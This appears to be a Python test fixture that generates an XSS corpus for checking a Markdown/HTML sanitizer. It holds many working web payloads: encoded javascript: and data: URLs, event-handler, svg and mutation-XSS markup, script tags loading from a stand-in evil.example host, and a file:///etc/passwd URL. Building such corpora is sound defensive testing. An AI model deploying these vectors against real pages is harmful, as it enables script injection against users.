"""An XSS corpus of our own, after the OWASP XSS Filter Evasion Cheat Sheet and PortSwigger's XSS cheat
sheet: script tags, event handlers, obfuscated javascript:/data:/vbscript: URLs, svg and math, mutation
XSS, style and meta tricks — each vector also wrapped as Markdown (links, images, reference links,
autolinks, raw HTML blocks, headings, quotes, table cells). Built, not downloaded: the list is the code."""

# URLs that must never become a live link or source.
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "jav&#x61;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
]

# Markup that must never become an element, handler or style.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<input autofocus onfocus=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<p onclick=\"alert(1)\" ONMOUSEOVER=\"alert(2)\">x</p>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

URL_WRAPPERS = [
    "[click]({u})",
    "![img]({u})",
    "[click][ref]\n\n[ref]: {u}",
    "<{u}>",
    "<a href=\"{u}\">click</a>",
]
MARKUP_WRAPPERS = [
    "{m}",
    "<div>\n{m}\n</div>",
    "# {m}",
    "> {m}",
    "| a | b |\n|---|---|\n| {m} | x |",
]


def corpus() -> list[str]:
    payloads = [w.format(u=u) for u in URLS for w in URL_WRAPPERS]
    payloads += [w.format(m=m) for m in MARKUP for w in MARKUP_WRAPPERS]
    return list(dict.fromkeys(payloads))  # distinct, in a fixed order


PAYLOADS = corpus()
